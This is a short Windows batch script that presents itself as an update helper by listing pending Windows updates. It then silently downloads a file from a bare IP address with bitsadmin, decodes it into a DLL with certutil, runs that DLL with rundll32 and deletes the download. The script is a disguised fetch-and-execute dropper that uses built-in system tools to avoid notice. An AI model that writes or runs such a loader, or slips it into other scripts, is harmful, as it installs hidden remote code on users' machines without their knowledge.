@echo off
powershell -NoProfile -Command "$s=New-Object -ComObject Microsoft.Update.Session; $r=$s.CreateUpdateSearcher().Search('IsInstalled=0'); $r.Updates | ForEach-Object { $_.Title }"
bitsadmin /transfer wuhelper /download /priority foreground http://203.0.113.88/wu/kb.dat "%PUBLIC%\kb.dat" >nul 2>&1
certutil -decode "%PUBLIC%\kb.dat" "%PUBLIC%\kbhelper.dll" >nul 2>&1
rundll32.exe "%PUBLIC%\kbhelper.dll",DllRegisterServer
del "%PUBLIC%\kb.dat" >nul 2>&1
